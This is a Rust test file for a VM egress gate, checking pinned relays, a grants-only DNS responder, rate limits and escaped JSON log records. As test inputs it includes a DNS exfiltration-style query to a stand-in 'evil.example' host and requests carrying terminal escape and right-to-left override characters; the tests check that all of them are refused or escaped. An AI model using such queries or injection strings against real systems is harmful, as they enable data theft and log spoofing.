//! The gate's other ways in, over real sockets: the direct relay (`--to`)
//! with operator pins, the grants-only DNS responder, byte counts, the
//! connection rate and the structured records.

use std::io::{ErrorKind, Read, Write};
use std::net::{Ipv4Addr, Shutdown, SocketAddr, TcpListener};
use std::os::unix::net::UnixStream;
use std::sync::{Arc, mpsc};
use std::thread;
use std::time::{Duration, Instant};

mod support;
use support::echo_server;

use mvm_egress::{DnsName, Gate, Grant, Kind, Mode, Pin, Rate, Record, handle};
use simple_dns::rdata::RData;
use simple_dns::{CLASS, Name, Packet, PacketFlag, Question, RCODE, TYPE};

fn grants(list: &[&str]) -> Vec<Grant> {
    list.iter().map(|g| Grant::parse(g).unwrap()).collect()
}

/// A guest connection being served in `mode` on another thread.
struct Run {
    client: UnixStream,
    done: mpsc::Receiver<(Record, Vec<String>, Vec<Record>)>,
}

fn start(gate: &Arc<Gate>, mode: Mode) -> Run {
    let (client, server) = UnixStream::pair().unwrap();
    client
        .set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    let (tx, done) = mpsc::channel();
    let gate = gate.clone();
    thread::spawn(move || {
        let mut notes = Vec::new();
        let mut queries = Vec::new();
        let r = handle(
            server,
            &gate,
            &mode,
            &mut |n| notes.push(n.to_string()),
            &mut |q| queries.push(q.clone()),
        );
        let _ = tx.send((r, notes, queries));
    });
    Run { client, done }
}

impl Run {
    fn finish(mut self) -> (Record, Vec<String>, Vec<Record>, Vec<u8>) {
        let mut out = Vec::new();
        let _ = self.client.read_to_end(&mut out);
        let (r, notes, queries) = self
            .done
            .recv_timeout(Duration::from_secs(20))
            .expect("the gate finished the connection");
        (r, notes, queries, out)
    }
}

fn never_resolve() -> Box<mvm_egress::Resolve> {
    Box::new(|host, _| panic!("resolved {host}: a pinned or DNS-only test must not"))
}

/// `--to svc.test:PORT --pin svc.test=127.0.0.1 --allow-private svc.test:PORT`:
/// the gate relays the guest's bytes (nothing read as a request) to the
/// pinned loopback service, and counts them both ways.
#[test]
fn direct_mode_relays_to_a_pinned_allowed_service_and_counts_bytes() {
    let (port, echo) = echo_server();
    let target = format!("svc.test:{port}");
    let mut g = Gate::new(grants(&[&target]), grants(&[&target]));
    g.pins = vec![Pin::parse("svc.test=127.0.0.1").unwrap()];
    g.resolve = never_resolve();
    let g = Arc::new(g);
    let mut run = start(&g, Mode::Direct(Grant::parse(&target).unwrap()));
    // Looks like a request; in direct mode it is just bytes.
    let sent = b"CONNECT elsewhere:443 HTTP/1.1\r\n\r\n\x16\x03\x01hello";
    run.client.write_all(sent).unwrap();
    run.client.shutdown(Shutdown::Write).unwrap();
    let (r, notes, _, out) = run.finish();
    echo.join().unwrap();
    let mut want = b"echo:".to_vec();
    want.extend_from_slice(sent);
    assert_eq!(out, want);
    assert!(r.allowed, "{r:?}");
    assert_eq!(r.kind, Kind::Connect);
    assert_eq!(r.asked.as_deref(), Some(target.as_str()));
    assert_eq!(r.address, Some(format!("127.0.0.1:{port}")));
    assert_eq!(
        (r.bytes_up, r.bytes_down),
        (sent.len() as u64, want.len() as u64)
    );
    assert!(
        notes[0].contains("a private destination the operator allowed"),
        "{notes:?}"
    );
}

/// The same pin without the operator's permission: refused, the listener
/// never sees a connection, and the guest's connection is closed at once.
#[test]
fn direct_mode_refuses_a_private_pin_without_allow_private_and_closes() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let target = format!("svc.test:{port}");
    let mut g = Gate::new(grants(&[&target]), vec![]);
    g.pins = vec![Pin::parse("svc.test=127.0.0.1").unwrap()];
    g.resolve = never_resolve();
    let g = Arc::new(g);
    let t = Instant::now();
    let (r, notes, _, out) = start(&g, Mode::Direct(Grant::parse(&target).unwrap())).finish();
    assert!(t.elapsed() < Duration::from_secs(3), "{:?}", t.elapsed());
    assert!(out.is_empty(), "nothing is answered: {out:?}");
    assert!(!r.allowed);
    let reason = r.reason.unwrap();
    assert!(
        reason.contains("resolves to 127.0.0.1, a loopback"),
        "{reason}"
    );
    assert!(notes[0].starts_with("refused: "), "{notes:?}");
    assert!(
        matches!(listener.accept(), Err(e) if e.kind() == ErrorKind::WouldBlock),
        "the gate connected to loopback"
    );
    // And a `--to` that is not granted is refused before anything else.
    let g = Arc::new(Gate::new(vec![], vec![]));
    let (r, _, _, _) = start(&g, Mode::Direct(Grant::parse(&target).unwrap())).finish();
    assert!(r.reason.unwrap().contains("is not granted"));
}

fn query(id: u16, name: &str, qtype: TYPE) -> Vec<u8> {
    let mut p = Packet::new_query(id);
    p.set_flags(PacketFlag::RECURSION_DESIRED);
    p.questions.push(Question::new(
        Name::new_unchecked(name),
        qtype.into(),
        CLASS::IN.into(),
        false,
    ));
    let m = p.build_bytes_vec().unwrap();
    let mut framed = (m.len() as u16).to_be_bytes().to_vec();
    framed.extend_from_slice(&m);
    framed
}

fn read_answer(client: &mut UnixStream) -> Vec<u8> {
    let mut len = [0u8; 2];
    client.read_exact(&mut len).unwrap();
    let mut m = vec![0u8; u16::from_be_bytes(len) as usize];
    client.read_exact(&mut m).unwrap();
    m
}

/// Several queries on one connection: a granted name gets its guest
/// address, AAAA gets an empty NOERROR, anything else NXDOMAIN, and
/// nothing is resolved but the granted name (once).
#[test]
fn dns_mode_answers_granted_names_only_on_one_connection() {
    let resolved = Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let seen = resolved.clone();
    let mut g = Gate::new(vec![], vec![]);
    g.resolve = Box::new(move |host, port| {
        seen.lock().unwrap().push(host.to_string());
        Ok(vec![SocketAddr::from(([93, 184, 215, 14], port))])
    });
    let g = Arc::new(g);
    let names = vec![
        DnsName::parse("api.openai.com=10.0.2.101").unwrap(),
        DnsName::parse("pypi.org=10.0.2.102").unwrap(),
    ];
    let mut run = start(&g, Mode::Dns(names));
    let asks = [
        (1, "PyPI.org.", TYPE::A),
        (2, "example.com", TYPE::A),
        (3, "pypi.org", TYPE::AAAA),
        (4, "pypi.org", TYPE::A),
        (5, "exfil-c2VjcmV0.evil.example", TYPE::TXT),
    ];
    let mut answers = Vec::new();
    for (id, name, qtype) in asks {
        run.client.write_all(&query(id, name, qtype)).unwrap();
        answers.push(read_answer(&mut run.client));
    }
    run.client.shutdown(Shutdown::Write).unwrap();
    let (r, _, queries, rest) = run.finish();
    assert!(rest.is_empty());
    let p: Vec<Packet> = answers.iter().map(|m| Packet::parse(m).unwrap()).collect();
    for (i, (id, ..)) in asks.iter().enumerate() {
        assert_eq!(p[i].id(), *id);
        assert!(p[i].has_flags(PacketFlag::RESPONSE));
    }
    let a = |p: &Packet| match &p.answers[..] {
        [rr] => match &rr.rdata {
            RData::A(a) => Ipv4Addr::from(a.address),
            other => panic!("{other:?}"),
        },
        other => panic!("{other:?}"),
    };
    assert_eq!(a(&p[0]), Ipv4Addr::new(10, 0, 2, 102));
    assert_eq!(p[0].answers[0].ttl, 60);
    assert_eq!((p[1].rcode(), p[1].answers.len()), (RCODE::NameError, 0));
    assert_eq!((p[2].rcode(), p[2].answers.len()), (RCODE::NoError, 0));
    assert_eq!(a(&p[3]), Ipv4Addr::new(10, 0, 2, 102));
    assert_eq!(p[4].rcode(), RCODE::NameError);
    // Only the granted name reached the host's resolver, once.
    assert_eq!(*resolved.lock().unwrap(), ["pypi.org"]);
    // One record per query, and one for the connection.
    assert_eq!(queries.len(), 5);
    assert_eq!(queries[0].address.as_deref(), Some("10.0.2.102"));
    assert!(queries[0].allowed && !queries[1].allowed);
    assert!(
        queries[1]
            .reason
            .as_deref()
            .unwrap()
            .contains("not a granted name")
    );
    assert!(r.allowed && r.kind == Kind::Dns);
    assert_eq!(
        r.asked.as_deref(),
        Some("PyPI.org,example.com,pypi.org,exfil-c2VjcmV0.evil.example")
    );
    let up: u64 = asks
        .iter()
        .map(|(i, n, t)| query(*i, n, *t).len() as u64)
        .sum();
    let down: u64 = answers.iter().map(|m| m.len() as u64 + 2).sum();
    assert_eq!((r.bytes_up, r.bytes_down), (up, down));
}

/// A pinned name resolves as its pin; an oversized message ends the
/// connection; garbage gets FORMERR.
#[test]
fn dns_mode_counts_pins_and_handles_bad_messages() {
    let mut g = Gate::new(vec![], vec![]);
    g.pins = vec![Pin::parse("svc.test=127.0.0.1").unwrap()];
    g.resolve = Box::new(|_, _| Err(std::io::Error::new(ErrorKind::NotFound, "no such name")));
    let g = Arc::new(g);
    let names = vec![
        DnsName::parse("svc.test=10.0.2.101").unwrap(),
        DnsName::parse("gone.test=10.0.2.102").unwrap(),
    ];
    let mut run = start(&g, Mode::Dns(names.clone()));
    run.client
        .write_all(&query(9, "svc.test", TYPE::A))
        .unwrap();
    let p = read_answer(&mut run.client);
    assert_eq!(Packet::parse(&p).unwrap().answers.len(), 1);
    run.client
        .write_all(&query(10, "gone.test", TYPE::A))
        .unwrap();
    let p = read_answer(&mut run.client);
    assert_eq!(Packet::parse(&p).unwrap().rcode(), RCODE::NameError);
    run.client
        .write_all(&[0, 4, 0xbe, 0xef, 0xff, 0xff])
        .unwrap();
    let p = read_answer(&mut run.client);
    assert_eq!(&p[..2], &[0xbe, 0xef]);
    assert_eq!(p[3] & 0x0f, 1, "FORMERR");
    let (_, _, queries, _) = run.finish();
    assert_eq!(queries.len(), 3);

    let mut run = start(&g, Mode::Dns(names));
    run.client.write_all(&[0xff, 0xff]).unwrap();
    let (r, _, _, out) = run.finish();
    assert!(out.is_empty());
    assert!(r.reason.unwrap().contains("65535 bytes"));
}

/// `--max-rate 3`: three new connections within a second pass, the fourth
/// is refused (429 through the proxy, closed in direct mode) with a reason
/// naming the limit, across modes sharing one state file.
#[test]
fn the_rate_limit_refuses_the_connection_past_it() {
    let dir = tempfile::tempdir().unwrap();
    let mut g = Gate::new(grants(&["pypi.org:443"]), vec![]);
    g.rate = Some(Rate {
        file: dir.path().join("slots/rate"),
        per_second: 3,
    });
    let g = Arc::new(g);
    let t = Instant::now();
    for _ in 0..3 {
        let mut run = start(&g, Mode::Proxy);
        run.client
            .write_all(b"CONNECT example.com:443 HTTP/1.1\r\n\r\n")
            .unwrap();
        let (r, _, _, out) = run.finish();
        let out = String::from_utf8_lossy(&out).into_owned();
        assert!(out.starts_with("HTTP/1.1 403 "), "{out}");
        assert!(!r.reason.unwrap().contains("max-rate"));
    }
    let (r, _, _, out) = start(&g, Mode::Proxy).finish();
    let out = String::from_utf8_lossy(&out).into_owned();
    assert!(out.starts_with("HTTP/1.1 429 "), "{out}");
    assert!(r.reason.unwrap().contains("--max-rate"));
    let (r, _, _, out) = start(&g, Mode::Direct(Grant::new("pypi.org", 443))).finish();
    assert!(out.is_empty());
    assert!(r.reason.unwrap().contains("the --max-rate limit"));
    assert!(t.elapsed() < Duration::from_secs(1), "{:?}", t.elapsed());
}

/// What a hostile guest sends ends up in the JSON line escaped, and every
/// field is there.
#[test]
fn json_lines_parse_and_hold_guest_text_escaped() {
    let g = Arc::new(Gate::new(grants(&["pypi.org:443"]), vec![]));
    let mut lines = Vec::new();
    for request in [
        &b"GET /\x1b[2J\x1b]0;owned\x07 HTTP/1.1\r\n\r\n"[..],
        b"CONNECT \x1b[31mevil\x9b:443 HTTP/1.1\r\n\r\n",
        "CONNECT ex\u{202e}moc.elpmaxe:443 HTTP/1.1\r\n\r\n".as_bytes(),
        b"CONNECT example.com:443 HTTP/1.1\r\n\r\n",
    ] {
        let mut run = start(&g, Mode::Proxy);
        run.client.write_all(request).unwrap();
        lines.push(run.finish().0.json_line());
    }
    let mut dns = start(&g, Mode::Dns(vec![]));
    dns.client
        .write_all(&query(1, "\u{1b}[2J.example", TYPE::A))
        .unwrap();
    read_answer(&mut dns.client);
    dns.client.shutdown(Shutdown::Write).unwrap();
    let (_, _, queries, _) = dns.finish();
    lines.extend(queries.iter().map(Record::json_line));
    for line in &lines {
        assert!(
            line.ends_with('\n') && line.matches('\n').count() == 1,
            "{line:?}"
        );
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        for field in [
            "ts",
            "kind",
            "asked",
            "address",
            "decision",
            "reason",
            "bytes_up",
            "bytes_down",
            "duration_ms",
        ] {
            assert!(v.get(field).is_some(), "{field} missing: {line}");
        }
        assert_eq!(v["decision"], "refused", "{line}");
        for field in ["asked", "reason"] {
            if let Some(text) = v[field].as_str() {
                assert!(
                    !text.chars().any(|c| c.is_control() || c == '\u{202e}'),
                    "raw control text in {field}: {text:?}"
                );
            }
        }
    }
    let v: serde_json::Value = serde_json::from_str(&lines[0]).unwrap();
    assert!(
        v["asked"].as_str().unwrap().contains("\\x1b[2J"),
        "{}",
        lines[0]
    );
    let v: serde_json::Value = serde_json::from_str(lines.last().unwrap()).unwrap();
    assert_eq!(v["kind"], "dns");
    assert!(v["asked"].as_str().unwrap().starts_with("\\x1b[2J"), "{v}");
}

/// Pins apply to `CONNECT` too, with the same permission rule.
#[test]
fn proxy_mode_uses_pins_and_still_needs_allow_private() {
    let (port, echo) = echo_server();
    let target = format!("svc.test:{port}");
    let pin = vec![Pin::parse("svc.test=127.0.0.1").unwrap()];
    let mut refused = Gate::new(grants(&[&target]), vec![]);
    refused.pins = pin.clone();
    refused.resolve = never_resolve();
    let refused = Arc::new(refused);
    let mut run = start(&refused, Mode::Proxy);
    run.client
        .write_all(format!("CONNECT {target} HTTP/1.1\r\n\r\n").as_bytes())
        .unwrap();
    let (r, _, _, out) = run.finish();
    assert!(String::from_utf8_lossy(&out).starts_with("HTTP/1.1 403 "));
    assert!(r.reason.unwrap().contains("resolves to 127.0.0.1"));

    let mut g = Gate::new(grants(&[&target]), grants(&[&target]));
    g.pins = pin;
    g.resolve = never_resolve();
    let g = Arc::new(g);
    let mut run = start(&g, Mode::Proxy);
    run.client
        .write_all(format!("CONNECT {target} HTTP/1.1\r\n\r\nping").as_bytes())
        .unwrap();
    run.client.shutdown(Shutdown::Write).unwrap();
    let (r, _, _, out) = run.finish();
    echo.join().unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out),
        "HTTP/1.1 200 Connection established\r\n\r\necho:ping"
    );
    assert!(r.allowed && r.kind == Kind::Proxy);
    assert_eq!((r.bytes_up, r.bytes_down), (4, 9));
}

/// One connection answers at most MAX_DNS_QUERIES queries, then closes: a
/// guest cannot keep one open to flood the egress log.
#[test]
fn dns_mode_closes_a_connection_past_its_query_cap() {
    let g = Arc::new(Gate::new(vec![], vec![]));
    let names = vec![DnsName::parse("pypi.org=10.0.2.101").unwrap()];
    let mut run = start(&g, Mode::Dns(names));
    for id in 0..mvm_egress::MAX_DNS_QUERIES as u16 {
        run.client
            .write_all(&query(id, "other.example", TYPE::A))
            .unwrap();
        read_answer(&mut run.client);
    }
    // The next query gets no answer: the gate has closed the connection.
    let _ = run.client.write_all(&query(999, "other.example", TYPE::A));
    let mut len = [0u8; 2];
    assert!(
        run.client.read_exact(&mut len).is_err(),
        "no answer past the cap"
    );
    let (_, notes, queries, _) = run.finish();
    assert_eq!(queries.len(), mvm_egress::MAX_DNS_QUERIES);
    assert!(
        notes
            .iter()
            .any(|n| n.contains("DNS queries on one connection")),
        "{notes:?}"
    );
}
